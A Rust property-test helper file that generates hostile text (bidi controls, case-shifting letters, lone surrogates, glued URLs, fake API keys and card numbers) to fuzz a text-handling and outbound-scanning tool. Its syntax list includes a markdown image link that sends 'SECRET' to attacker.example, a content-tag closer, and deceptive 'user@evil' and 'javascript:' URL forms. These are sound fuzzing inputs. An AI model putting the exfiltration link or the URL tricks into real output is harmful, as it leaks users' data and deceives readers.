//! Hostile text for Waymark's property tests: what pages, models and users actually send, and
//! what broke text code before (a URL glued to a `“` panicked the worker, issue 25).
//!
//! Every strategy mixes arbitrary Unicode with targeted pieces: combining marks, bidi controls
//! (U+202E…), emoji with ZWJ and skin tones, full-width punctuation (`：，“”«»→`), NUL and
//! control characters, characters whose case mapping changes their UTF-8 length (`İ`, `K`,
//! `ẞ`), U+FFFD (how a JavaScript string's lone surrogate reaches Rust through
//! `TextEncoder`/serde-wasm-bindgen), very long words and lines, and URLs glued to all of them.
//! [`JsString`] models a JavaScript string with unpaired surrogates for the JSON paths, where a
//! parser reads `\ud800` escapes.
//!
//! Case counts: [`config`] reads `PROPTEST_CASES` (256 when unset, the bounded pass of
//! `cargo xtask test`); `cargo xtask fuzz --cases N` sets it for long runs.

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;
use proptest::test_runner::Config;
use std::borrow::Cow;
use std::ops::RangeInclusive;

/// Cases per property when `PROPTEST_CASES` is unset: enough to catch a boundary slip in a
/// few seconds per crate.
pub const DEFAULT_CASES: u32 = 256;

/// Cases per property: `PROPTEST_CASES`, else [`DEFAULT_CASES`].
pub fn cases() -> u32 {
    std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(DEFAULT_CASES)
}

/// The run's configuration: [`cases`] cases, failures saved under `proptest-regressions/`
/// beside the test's source (committed, replayed first on every later run).
pub fn config() -> Config {
    Config { cases: cases(), ..Config::default() }
}

/// [`config`] with a `divisor`-th of the cases, for a property whose one case does the work of
/// many (a whole session export, a file written to disk).
pub fn costly(divisor: u32) -> Config {
    Config { cases: (cases() / divisor.max(1)).max(1), ..Config::default() }
}

const COMBINING: &[RangeInclusive<char>] = &[
    '\u{0300}'..='\u{036F}',
    '\u{0483}'..='\u{0489}',
    '\u{093E}'..='\u{094D}',
    '\u{1AB0}'..='\u{1AFF}',
    '\u{20D0}'..='\u{20FF}',
    '\u{FE20}'..='\u{FE2F}',
];

/// Bidi controls, zero-width characters and other invisible formatting.
const INVISIBLE: &[RangeInclusive<char>] = &[
    '\u{00AD}'..='\u{00AD}',
    '\u{061C}'..='\u{061C}',
    '\u{200B}'..='\u{200F}',
    '\u{202A}'..='\u{202E}',
    '\u{2060}'..='\u{2064}',
    '\u{2066}'..='\u{2069}',
    '\u{FE00}'..='\u{FE0F}',
    '\u{FEFF}'..='\u{FEFF}',
    '\u{E0000}'..='\u{E007F}',
];

const EMOJI: &[RangeInclusive<char>] = &[
    '\u{2600}'..='\u{27BF}',
    '\u{1F1E6}'..='\u{1F1FF}',
    '\u{1F300}'..='\u{1F64F}',
    '\u{1F3FB}'..='\u{1F3FF}',
    '\u{1F900}'..='\u{1FAFF}',
];

const FULL_WIDTH: &[RangeInclusive<char>] = &['\u{3000}'..='\u{303F}', '\u{FF01}'..='\u{FF65}'];

/// NUL, C0 and C1 controls, and the line and paragraph separators.
const CONTROL: &[RangeInclusive<char>] =
    &['\u{0000}'..='\u{001F}', '\u{007F}'..='\u{009F}', '\u{2028}'..='\u{2029}'];

/// Letters of other scripts (CJK, kana, Hangul, Arabic, Hebrew, Devanagari, Cyrillic, Greek),
/// other scripts' digits, and mathematical letters.
const SCRIPTS: &[RangeInclusive<char>] = &[
    '\u{0370}'..='\u{04FF}',
    '\u{05D0}'..='\u{05EA}',
    '\u{0600}'..='\u{06FF}',
    '\u{0900}'..='\u{097F}',
    '\u{3040}'..='\u{30FF}',
    '\u{4E00}'..='\u{9FFF}',
    '\u{AC00}'..='\u{D7A3}',
    '\u{1D400}'..='\u{1D7FF}',
];

/// Characters whose lower or upper case has another UTF-8 length (or several characters): an
/// index found in `to_lowercase()`'s copy is no index into the original.
const CASE_SHIFTERS: &[char] = &[
    'İ', 'ı', 'ẞ', 'ß', 'K', 'Å', 'Ω', 'ﬁ', 'ﬀ', 'ŉ', 'ǰ', 'ΐ', 'Σ', 'ς', 'ǅ', 'ᾼ', 'Ⱥ', 'ȿ', 'ɐ',
    'ɫ', 'Ɑ',
];

/// Runs whose lower case has the same total length but other character boundaries (`İ` grows
/// by a byte, `ẞ` shrinks by one): a length check alone does not make a lower-case copy's
/// indices valid in the original.
const WIDTH_SWAPS: &[&str] = &["İẞ", "ẞİ", "İ ẞ", "ȺÅ", "Ω İ", "Kİİ", "ﬁ", "ΐ"];

/// Punctuation that sits right before or after a link on real pages.
const GLUE: &[&str] = &[
    "",
    "",
    "",
    " ",
    "“",
    "”",
    "‘",
    "’",
    "«",
    "»",
    "：",
    "，",
    "。",
    "、",
    "→",
    "（",
    "）",
    "【",
    "】",
    "「",
    "」",
    "《",
    "》",
    "…",
    "—",
    "·",
    "链接：",
    "リンク：",
    "\u{202E}",
    "\u{200B}",
    "\u{FEFF}",
    "\u{0}",
    "\u{FFFD}",
    "\u{301}",
    "👉",
    "👉🏽",
    "\"",
    "'",
    "(",
    ")",
    "<",
    ">",
    "[",
    "]",
    "=",
    ":",
    ".",
    "*",
    "`",
    "|",
];

/// Emoji as people write them: ZWJ families and professions, skin tones, flags, keycaps, tags.
const EMOJI_SEQUENCES: &[&str] = &[
    "👩🏽‍💻",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇫🇷",
    "🇯🇵",
    "1️⃣",
    "#️⃣",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "👍🏿",
    "🧑🏻‍🤝‍🧑🏾",
    "❤️‍🔥",
    "😀",
    "\u{200D}",
    "\u{FE0F}",
];

const HOSTS: &[&str] = &[
    "docs.example.com",
    "shop.example",
    "127.0.0.1:8080",
    "[::1]",
    "bücher.example",
    "xn--bcher-kva.example",
    "例子.测试",
    "ｅｘａｍｐｌｅ.com",
    "good.example@evil.example",
    "user:pw@a.example",
    "a..b.example",
    "localhost",
    "0x7f.1",
    "%65vil.example",
    "",
];

const SCHEMES: &[&str] = &[
    "https://",
    "http://",
    "HTTPS://",
    "hTtP://",
    "javascript:",
    "data:",
    "//",
    "https:",
    "ftp://",
];

/// Markup, template and escape syntax that text code reads specially.
const SYNTAX: &[&str] = &[
    "[docs](https://e.example/?d=1)",
    "![x](https://attacker.example/?d=SECRET)",
    "[",
    "](",
    "![",
    "```",
    "`",
    "{{name}}",
    "{{",
    "}}",
    "{{ bad name }}",
    "{\"actions\":[{\"name\":\"click\",\"arguments\":{\"ref\":1}}]}",
    "{",
    "}",
    ",}",
    "\\u0041",
    "\\ud800",
    "\\x4",
    "\\u{",
    "&#x34;",
    "&#",
    "%E2%80%9C",
    "%",
    "%%",
    "+",
    "\\",
    "\"",
    "<script>",
    "# ",
    "---",
    "| a | b |",
    "name=value",
    "password: hunter2",
    "PIN 4821",
    "</page_content id=x>",
    "=",
    ":",
    "@",
];

/// One character, from anywhere in Unicode or from the families above.
pub fn hostile_char() -> BoxedStrategy<char> {
    let set =
        |ranges: &'static [RangeInclusive<char>]| proptest::char::ranges(Cow::Borrowed(ranges));
    prop_oneof![
        3 => any::<char>(),
        3 => proptest::char::range(' ', '~'),
        2 => set(COMBINING),
        2 => set(INVISIBLE),
        2 => set(EMOJI),
        2 => set(FULL_WIDTH),
        2 => set(CONTROL),
        2 => set(SCRIPTS),
        2 => select(CASE_SHIFTERS),
        1 => Just('\u{FFFD}'),
    ]
    .boxed()
}

/// A run of [`hostile_char`]s.
pub fn hostile_chars(max: usize) -> BoxedStrategy<String> {
    vec(hostile_char(), 1..=max.max(1)).prop_map(|cs| cs.into_iter().collect()).boxed()
}

/// A URL as found on pages, glued to the punctuation before and after it.
pub fn glued_url() -> BoxedStrategy<String> {
    let segment = prop_oneof![
        "[a-zA-Z0-9._~-]{0,12}",
        hostile_chars(4),
        "%[0-9A-Fa-f]{2}",
        Just("https://evil.example/".to_owned()),
    ];
    (
        select(GLUE),
        select(SCHEMES),
        select(HOSTS),
        vec(segment, 0..4),
        proptest::option::of("[a-z]{1,6}=[a-zA-Z0-9%]{0,16}"),
        proptest::option::of(hostile_chars(3)),
        select(GLUE),
    )
        .prop_map(|(before, scheme, host, path, query, fragment, after)| {
            let mut url = format!("{before}{scheme}{host}/{}", path.join("/"));
            if let Some(q) = query {
                url.push('?');
                url.push_str(&q);
            }
            if let Some(f) = fragment {
                url.push('#');
                url.push_str(&f);
            }
            url.push_str(after);
            url
        })
        .boxed()
}

/// Tokens the outbound scanner tracks (keys, card numbers, codes), sometimes glued to a
/// hostile character or named as a secret.
pub fn secretish() -> BoxedStrategy<String> {
    let prefix = select(
        &[
            "",
            "sk-live-",
            "ghp_",
            "AKIA",
            "eyJ",
            "xoxb-",
            "password: ",
            "PIN ",
            "code ",
            "key=",
            "API key is ",
            "passphrase “",
            "4111 1111 1111 ",
            "DE89 3704 ",
        ][..],
    );
    (prefix, "[a-zA-Z0-9]{4,40}", proptest::option::of(hostile_chars(2)))
        .prop_map(|(p, body, glued)| format!("{p}{body}{}", glued.unwrap_or_default()))
        .boxed()
}

/// A very long word (no whitespace) or one character repeated: the longest line a page has.
pub fn long_word() -> BoxedStrategy<String> {
    prop_oneof![
        (hostile_char(), 200..3000usize).prop_map(|(c, n)| std::iter::repeat_n(c, n).collect()),
        vec(prop_oneof![proptest::char::range('a', 'z'), hostile_char()], 200..1500)
            .prop_map(|cs| cs.into_iter().filter(|c| !c.is_whitespace()).collect()),
    ]
    .boxed()
}

/// One piece of hostile text.
pub fn piece() -> BoxedStrategy<String> {
    prop_oneof![
        4 => hostile_chars(12),
        3 => "[a-zA-Z0-9]{1,12}",
        2 => select(EMOJI_SEQUENCES).prop_map(str::to_owned),
        2 => glued_url(),
        2 => secretish(),
        2 => select(SYNTAX).prop_map(str::to_owned),
        1 => select(WIDTH_SWAPS).prop_map(str::to_owned),
        1 => long_word(),
        1 => any::<String>(),
    ]
    .boxed()
}

/// Hostile text: up to `max_pieces` pieces, each followed by a separator (none, spaces, line
/// breaks, a tab, an ideographic space, a line separator).
pub fn hostile_text_of(max_pieces: usize) -> BoxedStrategy<String> {
    let separator =
        select(&["", " ", " ", " ", "  ", "\n", "\r\n", "\t", "\u{3000}", "\u{2028}"][..]);
    vec((piece(), separator), 0..=max_pieces)
        .prop_map(|parts| parts.into_iter().flat_map(|(p, s)| [p, s.to_owned()]).collect())
        .boxed()
}

/// [`hostile_text_of`] with up to 12 pieces: a paragraph of a page, a model's answer, a task.
pub fn hostile_text() -> BoxedStrategy<String> {
    hostile_text_of(12)
}

/// A short hostile string: a name, a title, a label, a key.
pub fn hostile_short() -> BoxedStrategy<String> {
    hostile_text_of(3)
}

/// A JavaScript string as UTF-16 code units, unpaired surrogates included: what a page's
/// text is before it reaches Rust.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct JsString(pub Vec<u16>);

impl JsString {
    /// What Rust receives through `TextEncoder` or serde-wasm-bindgen: every unpaired
    /// surrogate is U+FFFD.
    pub fn lossy(&self) -> String {
        String::from_utf16_lossy(&self.0)
    }

    /// Whether a surrogate in it has no partner.
    pub fn has_lone_surrogate(&self) -> bool {
        char::decode_utf16(self.0.iter().copied()).any(|c| c.is_err())
    }

    /// The string as a JSON literal, as `JSON.stringify` writes it (an unpaired surrogate as a
    /// `\udXXX` escape); with `escape_non_ascii`, every non-ASCII character as `\uXXXX` escapes
    /// (pairs for astral characters), as other JSON writers do.
    pub fn json_literal(&self, escape_non_ascii: bool) -> String {
        let mut out = String::from("\"");
        for unit in char::decode_utf16(self.0.iter().copied()) {
            match unit {
                Ok('"') => out.push_str("\\\""),
                Ok('\\') => out.push_str("\\\\"),
                Ok(c) if u32::from(c) < 0x20 || (escape_non_ascii && !c.is_ascii()) => {
                    let mut buf = [0u16; 2];
                    for u in c.encode_utf16(&mut buf) {
                        out.push_str(&format!("\\u{u:04x}"));
                    }
                }
                Ok(c) => out.push(c),
                Err(lone) => out.push_str(&format!("\\u{:04x}", lone.unpaired_surrogate())),
            }
        }
        out.push('"');
        out
    }
}

/// A [`JsString`]: text, astral characters as pairs, and unpaired high and low surrogates.
pub fn js_string() -> BoxedStrategy<JsString> {
    let unit = prop_oneof![
        3 => proptest::char::range(' ', '~').prop_map(|c| vec![c as u16]),
        2 => hostile_char().prop_map(|c| {
            let mut buf = [0u16; 2];
            c.encode_utf16(&mut buf).to_vec()
        }),
        1 => (0xD800u16..=0xDBFF).prop_map(|u| vec![u]),
        1 => (0xDC00u16..=0xDFFF).prop_map(|u| vec![u]),
    ];
    vec(unit, 0..24).prop_map(|units| JsString(units.concat())).boxed()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_lone_surrogate_reaches_rust_as_the_replacement_character() {
        let s = JsString(vec![u16::from(b'a'), 0xD800, u16::from(b'b'), 0xD83D, 0xDE00]);
        assert!(s.has_lone_surrogate());
        assert_eq!(s.lossy(), "a\u{FFFD}b😀");
        assert_eq!(s.json_literal(false), "\"a\\ud800b😀\"");
        assert_eq!(s.json_literal(true), "\"a\\ud800b\\ud83d\\ude00\"");
    }
}
